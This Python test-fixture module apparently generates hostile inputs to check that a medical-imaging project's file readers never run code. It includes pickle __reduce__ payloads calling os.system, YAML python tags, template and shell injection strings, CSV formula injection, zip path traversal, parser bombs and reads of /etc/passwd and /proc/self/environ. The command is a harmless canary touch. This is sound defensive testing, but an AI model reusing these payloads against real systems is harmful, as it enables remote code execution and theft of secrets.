"""Files that would run code if anything took them for what they are, and how each reaches medmtl.

Every one of them, executed, would create the file named by ``canary``.
"""

from __future__ import annotations

import base64
import io
import json
import os
import pickle
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np

from tests.reliability import entry_points
from tests.reliability.entry_points import CONFIG, Feed

SHELL = "touch {canary}"


class Trap:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def artefacts(canary: Path) -> dict[str, bytes]:
    """Name -> bytes of formats that can hold code."""
    command = SHELL.format(canary=canary)
    pickled = pickle.dumps(Trap(command))
    objects = io.BytesIO()
    np.save(objects, np.array([Trap(command)], dtype=object), allow_pickle=True)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("archive/data.pkl", pickled)
        file.writestr("archive/version", "3\n")
        file.writestr("../../escaped.txt", "x")
        file.writestr("archive/code/__torch__.py", f"import os; os.system({command!r})")
    wrapped = io.BytesIO()
    np.savez(wrapped, image=np.array([Trap(command)], dtype=object))
    length = 1 << 62
    return {
        "pickle": pickled,
        "old_pickle": pickle.dumps(Trap(command), protocol=0),
        "objects_npy": objects.getvalue(),
        "objects_npz": wrapped.getvalue(),
        "torch_zip": archive.getvalue(),
        "header_lies": length.to_bytes(8, "little") + b"{}",
        "header_bomb": (100_000).to_bytes(8, "little") + b"[" * 100_000,
        "header_code": _tensors({"__metadata__": {"_target_": f"os.system({command!r})", "format": "pt"}}),
        "header_offsets": _tensors({"w": {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 2**42]}}),
        "json_bomb": b"[" * 200_000 + b"]" * 200_000,
        "json_tag": json.dumps({"py/object": "os.system", "py/reduce": [command], "__reduce__": command}).encode(),
        "python": f"import os\nos.system({command!r})\n".encode(),
        "elf": b"\x7fELF" + bytes(60),
        "html": f"<script>fetch('http://example.org/?{canary.name}')</script>".encode(),
    }


def _tensors(header: dict[str, Any]) -> bytes:
    text = json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + bytes(24)


def configurations(canary: Path) -> Iterator[bytes]:
    """YAML that asks for code, in the place of a value, a key and a whole section."""
    command = SHELL.format(canary=canary)
    encoded = base64.b64encode(pickle.dumps(Trap(command))).decode()
    values = (
        f"!!python/object/apply:os.system [{command!r}]",
        f"!!python/object/new:os.system [{command!r}]",
        "!!python/name:os.system",
        "!!python/module:os",
        f"!!binary {encoded}",
        f"{{_target_: os.system, command: {command!r}}}",
        f"$(__import__('os').system({command!r}))",
        f'"${{oc.env:HOME}} @{command}"',
        f"\"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} {{% {command} %}}\"",
        '"@os.system"',
        "os.system",
        "medmtl.tests.hostile:Trap",
        "file:///etc/passwd",
        "http://127.0.0.1:9/config.yaml",
    )
    for value in values:
        yield CONFIG.replace(b"{kind: unet}", value.encode())
        yield CONFIG.replace(b"kind: unet", b"kind: " + value.encode())
        yield CONFIG.replace(b"lr: 1e-3", b"lr: " + value.encode())
        yield CONFIG + f"{value}: 1\n".encode()
    yield b"a: &a [x]\n" + b"".join(b"b%d: [*a, *a]\n" % number for number in range(40))


def tables(canary: Path) -> Iterator[bytes]:
    """Cells that name commands, devices and addresses."""
    command = SHELL.format(canary=canary)
    cells = (
        f"=cmd|'/c {command}'!A0", f"`{command}`", f"$({command})", f"| {command}", f"; {command}", "http://127.0.0.1:9/a.nii",
        "/dev/stdin", "/proc/self/environ", "//host/share/a.nii", "{{7*7}}", "../../../etc/passwd", "\\\\host\\a.nii",
    )  # fmt: skip
    sound = entry_points.table()
    for cell in cells:
        quoted = b'"' + cell.replace('"', '""').encode() + b'"'
        for place in (b"c1,", b"t1_1.nii.gz", b"organ.nii.gz", b"high", b"12.5"):
            yield sound.replace(place, quoted + (b"," if place.endswith(b",") else b""), 1)


def attacks(canary: Path) -> Iterator[tuple[str, Feed, bytes]]:
    """Every hostile file at every door: a name, who reads it, and its bytes."""
    doors = (
        entry_points.read_config, entry_points.read_set, entry_points.read_table, entry_points.read_plain_nifti,
        entry_points.read_packed_nifti, entry_points.read_stream, entry_points.read_plan, entry_points.read_splits,
        entry_points.read_folds, entry_points.read_run, entry_points.read_tensors, entry_points.read_state,
        entry_points.read_commit, entry_points.read_cache_meta, entry_points.read_cache_array,
        entry_points.read_activations, entry_points.read_run_config, entry_points.read_boxes,
    )  # fmt: skip
    for name, data in artefacts(canary).items():
        for door in doors:
            yield name, door, data
    for data in configurations(canary):
        for door in (entry_points.read_config, entry_points.read_run_config, entry_points.read_set):
            yield "yaml", door, data
    for data in tables(canary):
        yield "table", entry_points.read_table, data
